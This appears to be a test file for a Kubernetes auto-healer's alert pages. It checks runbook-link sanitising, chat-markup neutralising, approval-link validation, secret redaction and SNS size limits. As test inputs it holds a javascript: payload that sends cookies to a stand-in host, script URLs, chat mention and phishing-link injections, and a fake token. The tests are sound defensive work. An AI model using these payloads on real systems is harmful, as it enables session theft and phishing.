/**
 * The pure page formats: what each protocol's body says, that cluster text cannot make chat
 * markup, that the runbook link is checked, that nothing secret leaves, and that the whole SNS
 * message always fits and is always valid JSON. (Delivery through real SNS subscriptions is in
 * test/integration/pages-delivery.test.ts.)
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Decision, Notification } from '../../lib/domain/types.js';
import { chatbotNotification, dedupKeyOf, pageFacts, type ChatbotNotification, type PageDocument } from '../../lib/pages/formats.js';
import { approvalLinkOf, neutralizeChat, redactBody, safeRunbookUrl, wellFormed } from '../../lib/pages/safe-text.js';
import { MAX_SNS_MESSAGE_BYTES, snsPage, TRUNCATION_MARKER } from '../../lib/pages/sns-message.js';
import { buildNotification, buildShelteredPage } from '../../lib/pipeline/notification.js';
import { anEvictDiagnosis, anIncident, evidenceFor } from '../fixtures/builders.js';
import { SECRET_CASES } from '../fixtures/redaction-corpus.js';

const TOKEN = `${'ab12'.repeat(8)}.1764043200000.${'Hs7_aB-w3Z'.repeat(4)}Mm1`;
const APPROVAL = `https://healer.example.com/approve?token=${TOKEN}`;

function aPage(overrides: Partial<Notification> = {}): Notification {
  return {
    subject: '[k8s-healer] Needs a human: CrashLoopBackOff shop/web-1',
    body: 'Needs a human: CrashLoopBackOff on Pod shop/web-1 (cluster prod)\n\nIncident prod:shop:Pod:web-1:CrashLoopBackOff',
    severity: 'critical',
    outcome: 'paged',
    cluster: 'prod',
    namespace: 'shop',
    incidentId: 'prod:shop:Pod:web-1:CrashLoopBackOff',
    ...overrides,
  };
}

interface Members {
  readonly email: string;
  readonly machine: PageDocument;
  readonly chat: ChatbotNotification;
}

/** The three bodies of a published page, each parsed as its subscribers parse it. */
function membersOf(message: string): Members {
  const top = JSON.parse(message) as Record<string, unknown>;
  expect(Object.keys(top).sort()).toEqual(['default', 'email', 'https']);
  expect(typeof top.default).toBe('string');
  return {
    email: top.email as string,
    machine: JSON.parse(top.default as string) as PageDocument,
    chat: JSON.parse(top.https as string) as ChatbotNotification,
  };
}

describe('the runbook link', () => {
  it('passes an http(s) runbook URL as it is', () => {
    // Act + Assess
    expect(safeRunbookUrl('https://runbooks.example.com/kubernetes/KubePodCrashLooping#fix')).toBe('https://runbooks.example.com/kubernetes/KubePodCrashLooping#fix');
    expect(safeRunbookUrl('http://wiki.internal:8080/ops/crashloop?team=shop')).toBe('http://wiki.internal:8080/ops/crashloop?team=shop');
    expect(safeRunbookUrl('  https://github.com/kubernetes-monitoring/kubernetes-mixin/tree/master/runbook.md  ')).toBe('https://github.com/kubernetes-monitoring/kubernetes-mixin/tree/master/runbook.md');
  });

  it.each([
    ['a script', 'javascript:alert(1)'],
    ['data', 'data:text/html,<script>alert(1)</script>'],
    ['another scheme', 'ftp://files.example.com/runbook'],
    ['no scheme', 'runbooks.example.com/crashloop'],
    ['credentials', 'https://ops:hunter2@runbooks.example.com/'],
    ['a chat link', 'https://runbooks.example.com/x|click here'],
    ['a chat link closer', 'https://runbooks.example.com/x><!here>'],
    ['blanks', 'https://runbooks.example.com/a b'],
    ['a line break', 'https://runbooks.example.com/a\n@channel'],
    ['a token redaction would mask', 'https://runbooks.example.com/x?access_token=ghp_aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5'],
    ['too long', `https://runbooks.example.com/${'a'.repeat(2100)}`],
    ['empty', ''],
    ['absent', undefined],
  ])('drops %s', (_what, raw) => {
    // Act + Assess
    expect(safeRunbookUrl(raw)).toBeUndefined();
  });

  it('puts a good runbook in every body and a bad one in none', () => {
    // Prepare
    const good = 'https://runbooks.example.com/crashloop';
    const bad = 'javascript:fetch("https://evil.example/"+document.cookie)';

    // Act
    const withGood = membersOf(snsPage(aPage({ runbookUrl: good })).message);
    const withBad = snsPage(aPage({ runbookUrl: bad })).message;

    // Assess
    expect(withGood.email.endsWith(`\nRunbook: ${good}`)).toBe(true);
    expect(withGood.machine.runbookUrl).toBe(good);
    expect(withGood.machine.pagerduty.links).toEqual([{ href: good, text: 'Runbook' }]);
    expect(withGood.chat.content.nextSteps).toEqual([`Runbook: ${good}`]);
    expect(withBad).not.toContain('javascript');
    expect(withBad).not.toContain('evil.example');
  });
});

describe('chat text from the cluster', () => {
  const attacks = [
    '<!here> restart everything now',
    '<!channel|@channel> see <https://evil.example/login|the runbook>',
    '[official runbook](https://evil.example/phish) ![x](https://evil.example/pixel.png)',
    '@here @channel @everyone <@U024BE7LH> please approve',
    '```\nend of the code block\n``` *now bold* <https://evil.example>',
    '&lt;!here&gt; entity mention',
  ];

  it.each(attacks)('cannot link or mention from a log line: %s', (line) => {
    // Prepare: the line in the log tail, the namespace and the subject
    const page = aPage({ subject: `[k8s-healer] Needs a human: CrashLoopBackOff ${line}`, body: `Previous log of app (tail):\n${line}`, namespace: line });

    // Act
    const { chat } = membersOf(snsPage(page).message);

    // Assess: only the healer's own code fences; no character that starts a link, mention or entity
    const description = chat.content.description;
    expect(description.split('```')).toHaveLength(3);
    expect(chat.content.title.split('`')).toHaveLength(3);
    for (const text of [description, chat.content.title, chat.metadata.summary, ...Object.values(chat.metadata.additionalContext)]) {
      expect(text).not.toMatch(/[<>[\]@&]/);
    }
    expect(chat.content.nextSteps).toBeUndefined();
  });

  it('neutralises any text: nothing that makes markup survives, everything else does', () => {
    fc.assert(
      // Half the characters are the ones that matter, so every one of them is drawn many times.
      fc.property(fc.string({ unit: fc.oneof(fc.constantFrom(...'<>[]@&`\u0000\u001b\u007f'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 200 }), (text) => {
        // Act
        const out = neutralizeChat(text);

        // Assess
        expect(out).not.toMatch(/[<>[\]@&`]/);
        expect(out).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
        expect(out.replace(/[^a-zA-Z0-9 ]/g, '')).toBe(text.replace(/[^a-zA-Z0-9 ]/g, ''));
      }),
      { numRuns: 500 },
    );
  });

  it('follows Chatbot\'s custom notification schema, one thread per incident', () => {
    // Prepare
    const page = aPage({ severity: 'warning', outcome: 'awaiting-approval', action: 'cordon-node', approvalUrl: APPROVAL, body: `Approve (single use, expires; opens a confirmation page first): ${APPROVAL}\n\nApproval needed` });

    // Act
    const { chat } = membersOf(snsPage(page).message);

    // Assess
    expect(chat).toMatchObject({ version: '1.0', source: 'custom', content: { textType: 'client-markdown' } });
    expect(chat.content.title).toBe('🟠 `Needs a human: CrashLoopBackOff shop/web-1`');
    expect(chat.content.description.split('\n')[0]).toBe('Severity: warning · Outcome: awaiting-approval · Action: cordon-node');
    expect(chat.content.nextSteps).toEqual([`Approve or reject (single use; opens a confirmation page first): ${APPROVAL}`]);
    expect(chat.content.keywords).toEqual(['k8s-healer', 'warning', 'awaiting-approval', 'cordon-node']);
    expect(chat.metadata).toMatchObject({ threadId: 'prod:shop:Pod:web-1:CrashLoopBackOff', eventType: 'k8s-healer.trigger' });
  });

  it('shows a long page cut, and says where the rest went', () => {
    // Prepare
    const body = Array.from({ length: 500 }, (_, i) => `log line ${i}`).join('\n');
    const facts = pageFacts(aPage({ body }));

    // Act
    const chat = chatbotNotification('[k8s-healer] x', body, facts);

    // Assess
    expect(Buffer.byteLength(chat.content.description)).toBeLessThan(3_200);
    expect(chat.content.description).toContain('log line 0\n');
    expect(chat.content.description).toContain('the whole page went by mail');
  });
});

describe('the approval link', () => {
  it('leaves alone only in the shape the healer makes', () => {
    // Act + Assess
    expect(approvalLinkOf(APPROVAL)).toBe(APPROVAL);
    expect(approvalLinkOf(`${APPROVAL} <!here>`)).toBeUndefined();
    expect(approvalLinkOf(`javascript:x?token=${TOKEN}`)).toBeUndefined();
    expect(approvalLinkOf('https://healer.example.com/approve?token=short')).toBeUndefined();
  });
});

describe('resolves and their key', () => {
  it('keys a follow-up by its incident id, and a long id by its digest', () => {
    // Prepare
    const long = `prod:shop:Pod:${'w'.repeat(253)}:CrashLoopBackOff`;

    // Act
    const key = dedupKeyOf({ incidentId: long, subject: 'a', body: 'b' });

    // Assess
    expect(dedupKeyOf({ incidentId: 'prod:shop:Pod:web-1:CrashLoopBackOff', subject: 'a', body: 'b' })).toBe('prod:shop:Pod:web-1:CrashLoopBackOff');
    expect(key).toMatch(/^k8s-healer:sha256:[0-9a-f]{64}$/);
    expect(dedupKeyOf({ incidentId: long, subject: 'other', body: 'other' })).toBe(key);
  });

  it('resolves the page it follows: same key, severity info, PagerDuty resolve', () => {
    // Prepare
    const opened = snsPage(aPage());
    const closed = snsPage(aPage({ severity: 'info', outcome: 'acted', eventAction: 'resolve', subject: '[k8s-healer] Verified, resolved: evict-pod shop/web-1' }));

    // Act
    const before = membersOf(opened.message).machine;
    const after = membersOf(closed.message).machine;

    // Assess
    expect(before.pagerduty).toMatchObject({ event_action: 'trigger', payload: { severity: 'critical' } });
    expect(after.pagerduty).toMatchObject({ event_action: 'resolve', dedup_key: before.pagerduty.dedup_key, payload: { severity: 'info' } });
    expect(closed.attributes).toMatchObject({ event: 'resolve', severity: 'info' });
    expect(membersOf(closed.message).chat.content.title.startsWith('✅')).toBe(true);
  });

  it('never resolves without the incident it would close', () => {
    // Act
    const page = snsPage(aPage({ incidentId: undefined, eventAction: 'resolve' }));

    // Assess
    expect(page.attributes.event).toBe('trigger');
    expect(membersOf(page.message).machine.pagerduty.event_action).toBe('trigger');
  });
});

describe('pages the pipeline builds', () => {
  const incident = anIncident({ annotations: { runbook_url: 'https://runbooks.example.com/crashloop' } });
  const allowed: Decision = { allowed: true, dryRun: false, verdicts: [] };
  const action = { action: 'evict-pod' as const, target: incident.subject, ok: true, detail: 'evicted' };

  it('resolves when the fix was verified at the first look, and only then', () => {
    // Act
    const verified = buildNotification({ incident, evidence: evidenceFor(incident), diagnosis: anEvictDiagnosis(incident), decision: allowed, action: { ...action, verified: true }, outcome: 'acted' });
    const pending = buildNotification({ incident, evidence: evidenceFor(incident), diagnosis: anEvictDiagnosis(incident), decision: allowed, action, outcome: 'acted' });
    const failed = buildNotification({ incident, evidence: evidenceFor(incident), diagnosis: anEvictDiagnosis(incident), decision: allowed, action: { ...action, verified: false }, outcome: 'acted' });

    // Assess
    expect(verified).toMatchObject({ eventAction: 'resolve', severity: 'info', incidentId: incident.id, action: 'evict-pod', runbookUrl: 'https://runbooks.example.com/crashloop' });
    expect(pending.eventAction).toBe('trigger');
    expect(failed.eventAction).toBe('trigger');
  });

  it('asks for approval as a warning about the proposed action, with the link, never as a resolve', () => {
    // Act
    const page = buildNotification({
      incident, evidence: evidenceFor(incident), diagnosis: anEvictDiagnosis(incident, { recommendation: 'cordon-node' }),
      decision: { ...allowed, approvalRequired: true }, action: undefined, outcome: 'awaiting-approval', approvalLink: APPROVAL,
    });

    // Assess
    expect(page).toMatchObject({ severity: 'warning', eventAction: 'trigger', action: 'cordon-node', approvalUrl: APPROVAL, incidentId: incident.id });
    expect(snsPage(page).attributes).toMatchObject({ severity: 'warning', outcome: 'awaiting-approval', action: 'cordon-node', event: 'trigger' });
  });

  it('keeps the alert\'s text, the runbook included, out of a protected place\'s page', () => {
    // Act
    const page = buildShelteredPage(incident, 'namespace kube-system is protected');

    // Assess
    expect(page.runbookUrl).toBeUndefined();
    expect(page.incidentId).toBe(incident.id);
  });
});

describe('the SNS message', () => {
  /** Characters that grow under JSON escaping (twice for the JSON members), multi-byte ones, controls, lone surrogates. */
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom('"', '\\', '\n', '\u001b[31m', '\u0000', '✓', '😀', '\uD800', '</script>', '<!here>'),
  );
  const body = fc.tuple(fc.array(piece, { maxLength: 20 }), fc.integer({ min: 1, max: 400 })).map(([parts, times]) => parts.join('').repeat(times));

  it('always fits the limit, is valid JSON with the three members, and cuts only the page text', () => {
    let cut = 0;
    let whole = 0;
    fc.assert(
      fc.property(body, fc.integer({ min: 8 * 1024, max: 64 * 1024 }), fc.option(fc.constant('https://runbooks.example.com/x'), { nil: undefined }), (text, limit, runbookUrl) => {
        // Act
        const out = snsPage(aPage({ body: text, ...(runbookUrl ? { runbookUrl } : {}) }), limit);

        // Assess
        const attributeBytes = Object.entries(out.attributes).reduce((n, [k, v]) => n + Buffer.byteLength(k) + 6 + Buffer.byteLength(v), 0);
        expect(Buffer.byteLength(out.message) + attributeBytes).toBeLessThanOrEqual(limit);
        const { email, machine, chat } = membersOf(out.message);
        expect(machine.text).toBe(email);
        expect(chat.version).toBe('1.0');
        const shown = runbookUrl ? email.slice(0, -`\nRunbook: ${runbookUrl}`.length) : email;
        if (runbookUrl) expect(email.endsWith(`\nRunbook: ${runbookUrl}`)).toBe(true);
        // The page text is redacted and made well formed (controls, lone surrogates), then at most cut.
        const full = text.length === 0 ? '(no details)' : wellFormed(redactBody(text));
        if (shown.endsWith(TRUNCATION_MARKER) && shown !== full) {
          cut += 1;
          expect(full.startsWith(shown.slice(0, -TRUNCATION_MARKER.length))).toBe(true);
        } else {
          whole += 1;
          expect(shown).toBe(full);
        }
      }),
      { numRuns: 100 },
    );
    // Both paths must be reached, or the property proves nothing about one of them.
    expect(cut, `cut pages (fast-check seed ${fc.readConfigureGlobal().seed})`).toBeGreaterThanOrEqual(10);
    expect(whole, `whole pages (fast-check seed ${fc.readConfigureGlobal().seed})`).toBeGreaterThanOrEqual(10);
  });

  it('fits the largest page SNS takes, at its real limit', () => {
    // Prepare: a megabyte of log lines full of characters JSON escapes
    const text = `evidence follows\n${'"quoted" \\path\\ ✓\n'.repeat(60_000)}`;

    // Act
    const out = snsPage(aPage({ body: text }));

    // Assess
    expect(Buffer.byteLength(out.message)).toBeLessThanOrEqual(MAX_SNS_MESSAGE_BYTES);
    const { email } = membersOf(out.message);
    expect(email.startsWith('evidence follows\n"quoted" \\path\\ ✓\n')).toBe(true);
    expect(email.endsWith(TRUNCATION_MARKER)).toBe(true);
    // Most of the room goes to the page: the text is cut no more than it must be.
    expect(Buffer.byteLength(email)).toBeGreaterThan(60 * 1024);
  });

  it('sends no secret from any field, in any body', () => {
    fc.assert(
      fc.property(fc.constantFrom(...SECRET_CASES), fc.constantFrom('subject', 'body', 'cluster', 'namespace', 'incidentId', 'runbookUrl'), (c, field) => {
        // Prepare
        const page = aPage({ [field]: field === 'runbookUrl' ? `https://runbooks.example.com/?q=${c.line}` : c.line });

        // Act
        const out = snsPage(page);

        // Assess: every published string, decoded (escaping could hide a secret from a raw search)
        const { email, machine, chat } = membersOf(out.message);
        const published = [out.subject, ...Object.values(out.attributes), email, JSON.stringify(machine), JSON.stringify(chat), ...allStrings(machine), ...allStrings(chat)].join('\n');
        for (const secret of c.secrets) expect(published, `${c.shape} in ${field}`).not.toContain(secret);
      }),
      { numRuns: 300 },
    );
  });
});

function allStrings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value === null || typeof value !== 'object') return [];
  return Object.values(value).flatMap(allStrings);
}
